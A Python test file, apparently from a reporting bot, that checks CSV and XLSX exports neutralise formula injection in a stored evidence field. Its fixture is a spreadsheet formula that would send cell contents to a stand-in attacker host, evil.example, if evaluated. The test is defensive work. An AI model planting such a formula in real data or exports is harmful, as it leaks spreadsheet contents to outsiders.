"""A note typed as a spreadsheet formula comes out of the report's table as the text typed: never run
when the CSV or the sheet is opened."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from participation.storage.models import Confirmation
from tests.conftest import COORDINATOR
from tests.participation.reports.support import build_year, uploads
from tests.support.clock import Clock
from tests.support.network import deliver
from tests.support.running import RunningBot

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Lähde")'


def test_a_formula_in_the_evidence_stays_text_in_csv_and_xlsx(network_bot: RunningBot, clock: Clock) -> None:
    build_year(network_bot, clock)
    with network_bot.runtime.db.session() as session:
        latest = session.scalars(
            select(Confirmation).where(Confirmation.year == 2025).order_by(Confirmation.id.desc())
        ).first()
        assert latest is not None
        latest.evidence = ATTACK
    network_bot.reply(COORDINATOR, "report 2025 en csv xlsx", channel_id="DCOORD001")
    assert deliver(network_bot) == 1  # one message with both files
    files = {u.filename.rsplit(".", 1)[1]: u.content for u in uploads(network_bot)}
    cells = [c for row in csv.reader(io.StringIO(files["csv"].decode("utf-8-sig"))) for c in row]
    assert "'" + ATTACK in cells and ATTACK not in cells
    sheet = load_workbook(io.BytesIO(files["xlsx"])).active
    assert sheet is not None
    written = [cell for row in sheet.iter_rows() for cell in row if cell.value == ATTACK]
    assert len(written) == 1 and written[0].data_type == "s"
